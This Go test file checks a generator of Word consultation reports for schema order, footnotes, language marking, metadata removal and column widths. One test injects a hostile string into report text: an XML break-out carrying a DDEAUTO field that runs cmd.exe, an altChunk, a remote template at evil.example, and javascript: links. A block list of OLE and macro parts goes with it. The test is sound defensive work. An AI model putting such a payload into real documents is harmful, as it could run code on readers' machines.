package report

import (
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"

	"parley/internal/consult"
)

// wordOf are the parts of a Word report.
func wordOf(t testing.TB, r consult.Results, lang consult.Lang) map[string]string {
	t.Helper()
	raw, err := DOCX(r, lang)
	if err != nil {
		t.Fatal(err)
	}
	return unpacked(t, raw)
}

// inOrder lists the children that the schema allows in some elements, in its
// order, as far as the writer uses them.
var inOrder = map[string]string{
	"pPr":    "pStyle keepNext keepLines pageBreakBefore widowControl numPr pBdr tabs suppressAutoHyphens bidi spacing ind jc outlineLvl sectPr",
	"rPr":    "rStyle rFonts b bCs i iCs color sz szCs u vertAlign rtl lang",
	"tblPr":  "tblStyle tblW tblBorders tblLayout tblCellMar tblLook tblCaption",
	"tcPr":   "tcW gridSpan tcBorders vAlign",
	"sectPr": "footerReference type pgSz pgMar titlePg",
	"style":  "name basedOn next uiPriority semiHidden qFormat pPr rPr tblPr tblStylePr",
	"tbl":    "tblPr tblGrid tr",
	"tr":     "trPr tc",
	"lvl":    "start numFmt lvlText lvlJc pPr",
	"font":   "altName charset family pitch embedRegular embedBold embedItalic",
	"settings": "removePersonalInformation removeDateAndTime embedTrueTypeFonts defaultTabStop autoHyphenation characterSpacingControl " +
		"footnotePr compat themeFontLang decimalSymbol listSeparator",
	"numbering": "abstractNum num", "styles": "docDefaults style", "tblBorders": "top bottom insideH", "tblCellMar": "top left bottom right",
	"inline": "extent docPr graphic", "pic": "nvPicPr blipFill spPr", "blipFill": "blip stretch",
}

// checkOrder fails where children stand in another order than the schema's.
func checkOrder(t *testing.T, name, content string) {
	t.Helper()
	type frame struct {
		element string
		at      int
	}
	var open []frame
	d := xml.NewDecoder(strings.NewReader(content))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		switch e := token.(type) {
		case xml.StartElement:
			if len(open) > 0 {
				parent := &open[len(open)-1]
				if order, ok := inOrder[parent.element]; ok {
					at := slices.Index(strings.Fields(order), e.Name.Local)
					if at < parent.at {
						t.Fatalf("%s: <%s> stands wrongly in <%s>", name, e.Name.Local, parent.element)
					}
					parent.at = at
				}
			}
			open = append(open, frame{e.Name.Local, 0})
		case xml.EndElement:
			open = open[:len(open)-1]
		}
	}
}

func TestEveryPartOfTheWordReportFollowsTheSchema(t *testing.T) {
	hostile := everywhere(attack + " \x00\x01\ufffe")
	for name, r := range map[string]consult.Results{
		"a day": fixture(), "hostile": hostile, "nothing": {Agenda: &consult.Agenda{}, Turnout: consult.Count{Suppressed: true}},
		"long": everywhere(strings.Repeat("word ", 10_000)), "right to left": everywhere("العدالة أولاً (1)"),
	} {
		t.Run(name, func(t *testing.T) {
			parts := wordOf(t, r, consult.Spanish)
			for part, content := range parts {
				if strings.HasSuffix(part, ".xml") || strings.HasSuffix(part, ".rels") || strings.HasSuffix(part, ".svg") {
					checkOrder(t, part, content)
				}
			}
			checkLinks(t, parts)
		})
	}
}

// Nothing that somebody wrote becomes an instruction to Word: fields are page
// numbers and note numbers, and there is no object, template or foreign part.
func TestTheWordReportObeysNobodysText(t *testing.T) {
	evil := `</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\cmd.exe "/k x" </w:instrText></w:r><w:altChunk r:id="rId1"/>" TargetMode="External" Target="https://evil.example/x.dotm`
	r := everywhere(evil)
	r.Narrative = []consult.Passage{{Part: "introduction", Text: consult.Text{consult.English: evil + " [x](javascript:alert(1)) [y](https://a.example/\" TargetMode=\"External)"}}}
	r.Agenda.Consultation.Deviations = []consult.Deviation{{Reason: consult.Text{consult.English: evil}}}
	parts := wordOf(t, r, consult.English)
	for name, content := range parts {
		for _, field := range regexp.MustCompile(`<w:instrText[^>]*>([^<]*)<`).FindAllStringSubmatch(content, -1) {
			if !regexp.MustCompile(`^ (PAGE|PAGEREF [\w-]+ \\h|NOTEREF [\w-]+ \\h) $`).MatchString(field[1]) {
				t.Errorf("%s instructs Word: %s", name, field[1])
			}
		}
		for _, element := range []string{"<w:altChunk", "<w:object", "<w:attachedTemplate", "<w:fldSimple", "<o:OLEObject", "attachedTemplate\""} {
			if strings.Contains(content, element) {
				t.Errorf("%s holds %s", name, element)
			}
		}
	}
	checkLinks(t, parts)
}

var (
	relationOf = regexp.MustCompile(`Id="([^"]+)" Type="[^"]*/(\w+)" Target="([^"]+)"( TargetMode="External")?`)
	usedID     = regexp.MustCompile(`r:(?:id|embed)="([^"]+)"`)
	anchorOf   = regexp.MustCompile(`w:anchor="([^"]+)"`)
	markOf     = regexp.MustCompile(`w:bookmarkStart w:id="\d+" w:name="([^"]+)"`)
)

// checkLinks fails on a relation that leads nowhere or to an unsafe place, and
// on a jump without a bookmark.
func checkLinks(t *testing.T, parts map[string]string) {
	t.Helper()
	for _, part := range []string{"document", "footnotes", "fontTable"} {
		known := map[string]bool{}
		for _, r := range relationOf.FindAllStringSubmatch(parts["word/_rels/"+part+".xml.rels"], -1) {
			known[r[1]] = true
			switch {
			case r[4] != "":
				if scheme, _, _ := strings.Cut(r[3], ":"); !slices.Contains([]string{"http", "https", "mailto"}, scheme) || r[2] != "hyperlink" {
					t.Errorf("%s leads out to %s", part, r[3])
				}
			case parts[path.Join("word", r[3])] == "":
				t.Errorf("%s leads to %s, which is not there", part, r[3])
			}
		}
		for _, used := range usedID.FindAllStringSubmatch(parts["word/"+part+".xml"], -1) {
			if !known[used[1]] {
				t.Errorf("%s uses %s, which is not defined", part, used[1])
			}
		}
	}
	marks := map[string]bool{}
	for _, m := range markOf.FindAllStringSubmatch(parts["word/document.xml"], -1) {
		if marks[m[1]] || len(m[1]) > 40 {
			t.Errorf("bookmark %s is there twice, or too long", m[1])
		}
		marks[m[1]] = true
	}
	for _, jump := range anchorOf.FindAllStringSubmatch(parts["word/document.xml"], -1) {
		if !marks[jump[1]] {
			t.Errorf("a jump to %s, which is not there", jump[1])
		}
	}
}

func TestFootnotesAreNumberedInTheOrderOfTheText(t *testing.T) {
	parts := wordOf(t, fixture(), consult.English)
	cited := regexp.MustCompile(`<w:footnoteReference w:id="(\d+)"/>`).FindAllStringSubmatch(parts["word/document.xml"], -1)
	if len(cited) < 10 {
		t.Fatalf("only %d notes", len(cited))
	}
	for i, c := range cited {
		if c[1] != fmt.Sprint(i+1) {
			t.Errorf("note %s is the %dth in the text", c[1], i+1)
		}
		if !strings.Contains(parts["word/footnotes.xml"], `w:id="`+c[1]+`"><w:p>`) {
			t.Errorf("note %s has no text", c[1])
		}
	}
	again := regexp.MustCompile(`NOTEREF (m_note_\d+)`).FindAllStringSubmatch(parts["word/document.xml"], -1)
	for _, c := range again {
		if !strings.Contains(parts["word/document.xml"], `w:name="`+c[1]+`"`) {
			t.Errorf("a second citation leads to %s, which is not there", c[1])
		}
	}
}

func TestTheWordReportIsMadeForItsTools(t *testing.T) {
	for lang, want := range map[consult.Lang]string{consult.English: "en-GB", consult.Spanish: "es-MX"} {
		r := fixture()
		parts := wordOf(t, r, lang)
		body := parts["word/document.xml"]
		tables, heads := strings.Count(body, "<w:tbl>"), strings.Count(body, "<w:tblHeader/>")
		if heads != tables-1 { // all but the key numbers of the cover
			t.Errorf("%d of %d tables repeat their head", heads, tables)
		}
		if rows, whole := strings.Count(body, "<w:tr>"), strings.Count(body, "<w:cantSplit/>"); rows != whole {
			t.Errorf("%d of %d rows may split", rows-whole, rows)
		}
		drawings := strings.Count(body, "<w:drawing>")
		if drawings < 40 || strings.Count(body, "asvg:svgBlip ") != drawings || strings.Contains(body, `descr=""`) {
			t.Errorf("%d drawings, not all with SVG and words", drawings)
		}
		chapters := len(Build(r, lang).Sections)
		if pages := strings.Count(body, "PAGEREF "); pages != chapters || strings.Count(body, `w:val="Heading1"`) != chapters {
			t.Errorf("%d chapters have %d pages in the contents, or no headings", chapters, pages)
		}
		if !strings.Contains(parts["word/styles.xml"], `<w:lang w:val="`+want+`"`) || !strings.Contains(parts["docProps/core.xml"], "<dc:language>"+want) {
			t.Errorf("the language is not %s", want)
		}
	}
}

func TestTheWordReportNamesNobodyAndNoTime(t *testing.T) {
	for name, content := range wordOf(t, fixture(), consult.English) {
		for _, bad := range []string{"dc:creator", "lastModifiedBy", "dcterms:", "w:rsid", "w:author", "w:date", "<Company", "<Manager", "vbaProject", "oleObject", "attachedTemplate"} {
			if strings.Contains(content, bad) {
				t.Errorf("%s has %s", name, bad)
			}
		}
	}
}

func TestALanguageThatDiffersIsMarkedInTheWordReport(t *testing.T) {
	r := excerpt()
	r.Agenda.Recommendations[0].Title = consult.Text{consult.Spanish: "Solo en español"}
	r.Agenda.Recommendations[1].Title = consult.Text{consult.English: "العدالة أولاً"}
	body := wordOf(t, r, consult.English)["word/document.xml"]
	for _, want := range []string{`<w:lang w:val="es-MX"/></w:rPr><w:t xml:space="preserve">Solo en español`, `<w:rPr><w:rtl/></w:rPr><w:t xml:space="preserve">العدالة أولاً`} {
		if !strings.Contains(body, want) {
			t.Errorf("lacks %s", want)
		}
	}
}

func TestColumnsNeverLoseTheirWidth(t *testing.T) {
	long := Table{Columns: []Column{{Head: "a"}, {Head: strings.Repeat("b", 200)}}, Rows: [][]Cell{{{Text: say(strings.Repeat("word ", 500))}, {Withheld: "fewer than 5"}}}}
	many := Table{}
	for i := range 60 {
		many.Columns = append(many.Columns, Column{Head: fmt.Sprintf("column %d", i), Figure: i > 0})
	}
	for _, table := range []Table{long, many, {Columns: []Column{{Head: ""}}}} {
		for _, total := range []int{narrowText, wideText} {
			sum := 0
			for _, width := range table.widths(total) {
				if width <= 0 {
					t.Errorf("a column of %d", width)
				}
				sum += width
			}
			if sum > total {
				t.Errorf("%d of %d", sum, total)
			}
		}
	}
}
